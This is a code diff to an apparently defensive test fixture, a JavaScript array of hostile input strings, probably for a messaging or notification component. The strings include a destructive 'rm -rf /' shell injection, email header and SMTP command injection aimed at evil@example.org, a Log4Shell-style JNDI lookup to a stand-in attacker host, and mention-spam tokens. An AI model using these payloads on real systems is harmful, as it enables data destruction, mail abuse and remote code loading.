@@ -24,6 +24,15 @@ export const HOSTILE = [
   '\u202egnp.exe \u0007\u001b[31m',
   '"; rm -rf / #$(id)`id`',
   '{"a":1}\n{"b":2}',
+  '',
+  ' \t\n',
+  '<at>all</at> @team @all:example.org',
+  '`\n\n<!here>` `` @all',
+  '\\`@all\\',
+  '=?utf-8?q?=0D=0ABcc:_evil=40example.org?= %0d%0aBcc: evil@example.org',
+  '.\r\n.\r\nMAIL FROM:<evil@example.org>\r\n\u2028\u2029\u0085x',
+  '{{ .Labels.trunk }} {{ template "x" }} ${jndi:ldap://evil.example} $PATH',
+  '\ud800 \udc00\ud800',
   'x'.repeat(100_000),
 ];
 
